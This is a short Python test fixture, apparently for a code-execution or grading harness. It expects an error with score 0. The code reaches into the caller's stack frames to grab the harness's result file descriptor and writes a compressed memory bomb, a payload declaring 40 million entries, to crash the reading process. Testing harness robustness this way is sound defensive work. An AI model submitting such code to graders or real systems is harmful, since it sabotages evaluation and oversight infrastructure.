# status: error
# score: 0
# says: not a result
# Tries to fill the memory of the process that reads its result.
import os
import struct
import zlib
import sys

import tensorflow.compat.v1 as tf

tf.disable_v2_behavior()
x = tf.placeholder(tf.float32, [None])
b = tf.Variable(0.0)
y = 3.0 * x + b

def descriptor_of_the_result():
    frame = sys._getframe()
    while frame and "result_fd" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["result_fd"] if frame else 3


def array(count):
    return b"\xdd" + struct.pack(">I", count)


many = 40_000_000
data = b"\x87\xa6graphs\x90\xa9snapshots\x90\xaeglobals_at_end" + array(many) + b"\xa0" * many
data = zlib.compress(data, 9)
os.write(descriptor_of_the_result(), struct.pack("<Q", len(data)) + data)
os._exit(0)
